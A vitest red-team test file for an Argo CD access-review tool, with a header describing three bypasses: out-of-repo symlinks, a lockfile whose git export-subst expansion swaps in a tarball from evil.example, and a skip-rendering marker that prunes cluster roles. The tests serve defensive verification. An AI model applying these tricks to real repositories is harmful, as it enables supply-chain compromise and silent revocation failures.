/**
 * Red team R36 (base 09bc08b): the seam between what the review judges (head dist/ and head's
 * package-lock.json, read from git objects) and what Argo CD and the head engine's job read (a
 * checkout of the whole repository; `git archive` of the head commit). Each test asserts the safe
 * behaviour and fails on 09bc08b.
 *
 * R36-1 (medium; anyone whose pull request one admin approves, or an admin alone: every revocation
 *     after it stops reaching every cluster, silently): Argo CD's repo-server refuses to generate
 *     manifests for every Application of a repository that holds a symbolic link pointing outside it
 *     anywhere in its tree (reposerver/repository/repository.go, runRepoOperation:
 *     `argopath.CheckOutOfBoundsSymlinks(gitClient.Root())`, "repository contains out-of-bounds
 *     symlinks"; util/app/path: every absolute link, and every relative one resolving above the
 *     root). The review refuses links in dist/ only (readRefOutput); one under org/ is neither
 *     `output-proof`'s (it reads dist/) nor `engine-change`'s (org/ is a declaration path): bob adds
 *     `org/notes -> /etc/passwd`, the review says "No change in access" and every rule passes with
 *     alice's approval. Once merged, every shard Application of the organization stops at
 *     ComparisonError; Argo CD keeps what it last applied, so a person removed, a grant revoked, a
 *     token rotated afterwards reaches no cluster, while each of those reviews passes.
 *     Safe: the review fails a head whose tree holds a symbolic link pointing outside the repository
 *     (what Argo CD refuses), naming it.
 *
 * R36-2 (medium-low; whoever opens an orgctl upgrade, with the engine-change approval every upgrade
 *     needs): the review judges head's package-lock.json from git objects (readHeadLock: version,
 *     `resolved`, integrity, trusted registries) and accepts the head engine's proof from "the
 *     version head's lock installs". But the pull job hands the head-engine job its files through
 *     `git archive "$sha" package.json package-lock.json dist`, and git archive applies the archived
 *     tree's own `.gitattributes`: `export-subst` expands `$Format:...$` (`%x22` is a `"`, any byte
 *     can be written), `export-ignore` drops files. A head lock holding `"zz": "$Format:%x22,
 *     %x22packages%x22: {...}...$"` is, in git, a lock of orgctl 0.3.0 from npm's registry with its
 *     real integrity (what engine-change tells the approver they trust); as extracted, its last
 *     `packages` names any tarball. npm ci installs that, its code writes the proof, and the review
 *     accepts it. `.gitattributes` rides in the upgrade's file list (often as `package-lock.json
 *     linguist-generated`, which also collapses the lock's diff on GitHub). The review job's own
 *     extraction for the access pages has the same gap (a shard file dropped from the page).
 *     Safe: the extraction steps hand over the head commit's blobs as git stores them (or refuse
 *     a head whose attributes would change them); checkHeadProof could also refuse a change of
 *     `.gitattributes`, as it refuses `.npmrc`.
 *
 * R36-3 (medium-low; a head engine whose proof the review accepts: R36-2's, or a release that lies
 *     or errs): with a head proof accepted, head dist/ is judged as objects (review/
 *     written-output.ts), orgctl's own informational labels and annotations (`orgctl.io/...`) left
 *     to the head engine. Their values go to Argo CD as bytes: a ClusterRole's `orgctl.io/description`
 *     holding `+argocd:skip-file-rendering` raw makes the repo-server skip the whole cluster shard
 *     file (red team V), and each cluster's `cluster` Application, `allowEmpty: true` and
 *     `prune: true`, prunes its 23 catalog ClusterRoles and the membership ConfigMaps: every
 *     RoleBinding to a level then grants nothing (admins' w:full included; only custom Roles stay),
 *     and membership is gone from the cluster. The review passes it: output-proof ✅ "proved by
 *     orgctl 9.0.0-test", head-policies ✅. orgctl's writer never writes the marker raw (V); the
 *     reader of a vouched-for head does not ask.
 *     Safe: a head dist/ holding the marker raw fails output-proof whoever vouches for it.
 *
 * What held (no test): Argo CD's directory source as orgctl writes it (`path: dist/<cluster>`,
 * `recurse`, `include: <shard>/resources.yaml`, explicit `directory`, so no kustomization.yaml,
 * Chart.yaml or .jsonnet is rendered, and `.argocd-source*.yaml` overrides are read from the app
 * path only): every file of dist/, hidden ones and links included, fails output-proof or the
 * strict read; a List, extra documents, another namespace fail the byte comparison; a namespace's
 * declared labels and annotations refuse argoproj.io, helm.sh, kubernetes.io and k8s.io keys; the
 * review workflows install with --ignore-scripts and hand no .npmrc to head-engine. A root
 * `.gitattributes` converting dist/ on Argo CD's checkout (`working-tree-encoding`, `eol`, `ident`)
 * is an engine-change (a second admin approves it), and Argo CD reads manifests through utfutil,
 * which decodes UTF-16 with a byte order mark: the conversions left only break files (a stop, not
 * a grant), so no test.
 */
import { spawnSync } from 'node:child_process';
import { cpSync, existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import {
  cli,
  gitIn,
  relabelledCopy,
  reviewOfUpgrade,
  ROOT,
  tempDir,
  upgradedWithDescriptionEnding,
} from './helpers.ts';

/** A repository whose main~1 holds the example's dist/ and org/README.md, and whose main adds `head`'s files. */
function repoWithHead(head: (repo: string) => void): { repo: string; base: string; head: string } {
  const repo = tempDir('orgctl-r36-');
  const git = gitIn(repo);
  git('init', '-q', '-b', 'main');
  cpSync(join(ROOT, 'dist'), join(repo, 'dist'), { recursive: true });
  mkdirSync(join(repo, 'org'));
  writeFileSync(join(repo, 'org/README.md'), 'the declaration\n');
  git('add', '-A');
  git('commit', '-qm', 'base');
  const base = git('rev-parse', 'HEAD');
  head(repo);
  git('add', '-A');
  git('commit', '-qm', 'head');
  return { repo, base, head: git('rev-parse', 'HEAD') };
}

/** `orgctl review` of two commits of `repo`, by `actor` with `approver`'s approval, `paths` changed. */
const reviewCommits = (
  r: { repo: string; base: string; head: string },
  actor: string,
  approver: string,
  paths: readonly string[],
) =>
  cli(
    [
      'review',
      '--base',
      r.base,
      '--head',
      r.head,
      '--actor',
      actor,
      '--approved-by',
      approver,
      ...paths.flatMap((p) => ['--changed-path', p]),
    ],
    { cwd: r.repo },
  );

/** A rule's row of the comment. */
const row = (stdout: string, rule: string) => stdout.split('\n').find((l) => l.startsWith(`| \`${rule}\` |`)) ?? '';

describe('R36-1: a symbolic link out of the repository, outside dist/, stops every Application', () => {
  it.each([
    ['absolute', 'org/notes', '/etc/passwd'],
    ['relative, above the root', 'org/vendor/cache', '../../../../tmp'],
  ])('a link under org/ (%s) fails the review, named', (_, path, target) => {
    const r = repoWithHead((repo) => {
      mkdirSync(join(repo, path, '..'), { recursive: true });
      symlinkSync(target, join(repo, path));
    });
    expect(spawnSync('git', ['ls-tree', '-r', r.head, '--', path], { cwd: r.repo, encoding: 'utf8' }).stdout).toMatch(
      /^120000 blob /,
    );
    const review = reviewCommits(r, 'bob', 'alice', [path]);
    expect(review.stdout, review.stderr).toContain('No change in access'); // nothing else is at stake
    expect({ code: review.code, named: review.stdout.includes(path) }, review.stdout).toEqual({
      code: 1,
      named: true,
    });
  });
});

type Step = { id?: string; name?: string; run?: string };
type Workflow = { jobs: Record<string, { steps: Step[] }> };
const REVIEW_WORKFLOW = parse(readFileSync(join(ROOT, 'deploy/github/orgctl-review.yaml'), 'utf8')) as Workflow;

/** A workflow step's script run as GitHub runs `shell: bash`, in `repo`. */
function runStep(step: Step, repo: string, runnerTemp: string) {
  const output = join(runnerTemp, 'output');
  writeFileSync(output, '');
  return spawnSync('bash', ['--noprofile', '--norc', '-eo', 'pipefail', '-c', step.run!], {
    cwd: repo,
    encoding: 'utf8',
    env: { ...process.env, RUNNER_TEMP: runnerTemp, GITHUB_OUTPUT: output },
  });
}

/** A head lock: in git, orgctl 0.3.0 from npm's registry; as `git archive` expands it (export-subst), its last `packages` wins. */
const LOCK_IN_GIT = `${JSON.stringify(
  {
    name: 'acme-org',
    lockfileVersion: 3,
    requires: true,
    packages: {
      '': { name: 'acme-org', dependencies: { orgctl: '0.3.0' } },
      'node_modules/orgctl': {
        version: '0.3.0',
        resolved: 'https://registry.npmjs.org/orgctl/-/orgctl-0.3.0.tgz',
        integrity: 'sha512-AAAA',
      },
    },
    zz: '$Format:%x22, %x22packages%x22: {%x22node_modules/orgctl%x22: {%x22version%x22: %x220.3.0%x22, %x22resolved%x22: %x22https://evil.example/orgctl-0.3.0.tgz%x22}}, %x22yy%x22: %x22$',
  },
  null,
  2,
)}\n`;

describe("R36-2: the files handed to the head engine's job (and the access pages) are the head commit's", () => {
  /** base (refs/remotes/base) and head (refs/remotes/pull/head) as the pull job's fetch leaves them: head upgrades orgctl. */
  function upgradeRepo(attributes: string): string {
    const repo = tempDir('orgctl-r36-');
    const git = gitIn(repo);
    git('init', '-q');
    cpSync(join(ROOT, 'dist'), join(repo, 'dist'), { recursive: true });
    writeFileSync(join(repo, 'package.json'), '{"dependencies":{"orgctl":"0.2.0"}}\n');
    writeFileSync(join(repo, 'package-lock.json'), '{}\n');
    git('add', '-A');
    git('commit', '-qm', 'base');
    git('update-ref', 'refs/remotes/base', 'HEAD');
    writeFileSync(join(repo, 'package.json'), '{"dependencies":{"orgctl":"0.3.0"}}\n');
    writeFileSync(join(repo, 'package-lock.json'), LOCK_IN_GIT);
    writeFileSync(join(repo, '.gitattributes'), attributes);
    git('add', '-A');
    git('commit', '-qm', 'head: upgrade orgctl');
    git('update-ref', 'refs/remotes/pull/head', 'HEAD');
    return repo;
  }

  const blob = (repo: string, path: string) =>
    spawnSync('git', ['cat-file', 'blob', `refs/remotes/pull/head:${path}`], { cwd: repo, encoding: 'utf8' }).stdout;

  it("the pull job's extraction hands head-engine head's package-lock.json as git holds it (export-subst)", () => {
    const repo = upgradeRepo('package-lock.json export-subst linguist-generated\n');
    // What the review reads (readHeadLock, from git objects): orgctl 0.3.0 from npm's registry.
    expect(JSON.parse(blob(repo, 'package-lock.json')).packages['node_modules/orgctl'].resolved).toBe(
      'https://registry.npmjs.org/orgctl/-/orgctl-0.3.0.tgz',
    );
    const temp = tempDir('orgctl-r36-runner-');
    for (const id of ['engine', 'extract']) {
      const r = runStep(REVIEW_WORKFLOW.jobs.pull!.steps.find((s) => s.id === id)!, repo, temp);
      if (r.status !== 0) {
        // Refused (safe): then nothing is handed over.
        expect(existsSync(join(temp, 'head/package-lock.json')), r.stderr).toBe(false);
        return;
      }
    }
    const handed = readFileSync(join(temp, 'head/package-lock.json'), 'utf8');
    expect(
      { same: handed === LOCK_IN_GIT, installs: JSON.parse(handed).packages['node_modules/orgctl'].resolved },
      handed,
    ).toEqual({ same: true, installs: 'https://registry.npmjs.org/orgctl/-/orgctl-0.3.0.tgz' });
  });

  it.each([
    ['pull', 'extract'],
    ['review', 'extract'],
  ])("the %s job's extraction of dist/ leaves no shard file out (export-ignore)", (job, id) => {
    const repo = upgradeRepo('dist/lga1/shard-17/resources.yaml export-ignore\n');
    const temp = tempDir('orgctl-r36-runner-');
    const steps = REVIEW_WORKFLOW.jobs[job]!.steps;
    const ids = job === 'pull' ? ['engine', id] : [id];
    for (const step of ids.map((i) => steps.find((s) => s.id === i)!)) {
      const r = runStep(step, repo, temp);
      if (r.status !== 0) {
        // Refused (safe): then nothing is handed over.
        expect(existsSync(join(temp, 'head/dist')), r.stderr).toBe(false);
        return;
      }
    }
    const file = join(temp, 'head/dist/lga1/shard-17/resources.yaml');
    expect(
      existsSync(file) && readFileSync(file, 'utf8') === blob(repo, 'dist/lga1/shard-17/resources.yaml'),
      `${file}: extracted as git holds it`,
    ).toBe(true);
  });
});

describe('R36-3: Argo CD’s skip marker raw in head dist/, vouched for by a head proof', () => {
  const NEW = '9.0.0-test';
  const upgrade = (head: string) => reviewOfUpgrade(head, NEW);

  it('a ClusterRole description holding the marker raw in the cluster shard fails output-proof', async () => {
    const honest = await upgrade(relabelledCopy(join(ROOT, 'dist'), NEW));
    expect(honest.code, `control: the upgrade as written passes\n${honest.stdout}`).toBe(0);
    const head = upgradedWithDescriptionEnding(NEW, ' +argocd:skip-file-rendering');
    const r = await upgrade(head);
    // What this engine finds in a head dist/ a head proof vouches for is reported in head-policies'
    // row as `output-proof FILE` (review/written-output.ts), as every other such finding is.
    expect({ code: r.code, headPolicies: row(r.stdout, 'head-policies') }, r.stdout).toEqual({
      code: 1,
      headPolicies: expect.stringMatching(
        /❌ \| output-proof lga1\/cluster\/resources\.yaml: holds \+argocd:skip-file-rendering raw/,
      ),
    });
  });
});
